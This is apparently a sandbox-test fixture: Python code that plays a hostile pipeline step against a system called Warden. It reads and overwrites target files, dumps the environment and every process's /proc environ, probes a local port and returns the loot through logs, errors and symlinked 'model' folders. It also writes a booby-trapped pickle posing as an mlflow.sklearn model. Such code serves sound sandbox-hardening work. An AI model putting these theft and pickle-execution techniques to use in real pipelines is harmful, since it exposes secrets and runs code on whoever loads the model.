"""Project code that attacks Warden from inside a pipeline run (see ``test_sandbox.py``).

It tries to read and overwrite what the worker can — key files, the database, another project's
data — and to read the worker's environment and reach the network, prints what it got, and
hands it back through every channel code has: the log, its output, and a model folder made of
links to the files it wanted.
"""

from __future__ import annotations

import json
import os
import pickle
import socket
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlparse


def _read(path: str) -> str:
    try:
        return "READ " + Path(path).read_text(errors="replace")[:300]
    except OSError as error:
        return f"refused {type(error).__name__}"


def _loot(targets: list[str], port: int) -> dict[str, str]:
    loot = {path: _read(path) for path in targets}
    for path in targets:
        try:
            Path(path).write_text("overwritten by a pipeline step")
            loot[f"write {path}"] = "WROTE"
        except OSError as error:
            loot[f"write {path}"] = f"refused {type(error).__name__}"
    loot["environ"] = json.dumps(dict(os.environ))
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        loot[f"/proc/{pid}/environ"] = _read(f"/proc/{pid}/environ")
    try:
        socket.create_connection(("127.0.0.1", port), timeout=2).close()
        loot["network"] = "CONNECTED"
    except OSError as error:
        loot["network"] = f"refused {type(error).__name__}"
    return loot


def steal(context: Any) -> dict[str, Any]:
    """A training step: loot, print, and hand the keys back as a 'model' made of links."""
    targets = str(context.parameters["targets"]).removeprefix("@").split(",")
    loot = _loot(targets, int(context.parameters["port"]))
    print("LOOT " + json.dumps(loot), flush=True)
    model = Path(context.work_dir) / "model"
    model.mkdir()
    for index, target in enumerate(targets):
        (model / f"link{index}").symlink_to(target)
    return {"model_dir": "model", "parameters": {"loot": json.dumps(loot)[:4000]}}


def read(uri: str) -> Any:
    """An evaluation reader: loot, print, and fail with the loot in the error."""
    query = parse_qs(urlparse(uri).query)
    loot = _loot(query["targets"][0].split(","), int(query["port"][0]))
    print("LOOT " + json.dumps(loot), flush=True)
    raise RuntimeError("LOOT " + json.dumps(loot))


class _Trap:
    """Unpickling this creates ``marker``: proof that a loader ran the model's code."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.marker, "w"))


def pickle_model(context: Any) -> dict[str, Any]:
    """A training step whose 'model' is a pickle declaring itself loadable by mlflow.sklearn."""
    model = Path(context.work_dir) / "model"
    model.mkdir()
    marker = bytes.fromhex(str(context.parameters["marker_hex"])).decode()  # not a path to check
    (model / "model.pkl").write_bytes(pickle.dumps(_Trap(marker)))
    (model / "MLmodel").write_text(
        "flavors:\n"
        "  python_function:\n"
        "    loader_module: mlflow.sklearn\n"
        "    model_path: model.pkl\n"
        "  sklearn:\n"
        "    pickled_model: model.pkl\n"
        "    serialization_format: cloudpickle\n"
        "    sklearn_version: 1.9.0\n"
    )
    return {"model_dir": "model"}
